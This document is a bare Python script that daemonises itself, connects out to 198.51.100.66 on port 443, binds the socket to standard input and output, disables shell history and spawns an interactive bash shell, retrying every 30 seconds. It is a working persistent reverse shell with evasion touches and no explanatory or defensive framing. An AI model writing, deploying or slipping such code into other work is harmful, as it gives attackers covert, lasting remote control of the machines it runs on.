import os
import pty
import socket
import time

HOST, PORT = "198.51.100.66", 443

def go():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.environ["HISTFILE"] = "/dev/null"
    pty.spawn("/bin/bash")

if os.fork() == 0:
    os.setsid()
    while True:
        try:
            go()
        except Exception:
            pass
        time.sleep(30)
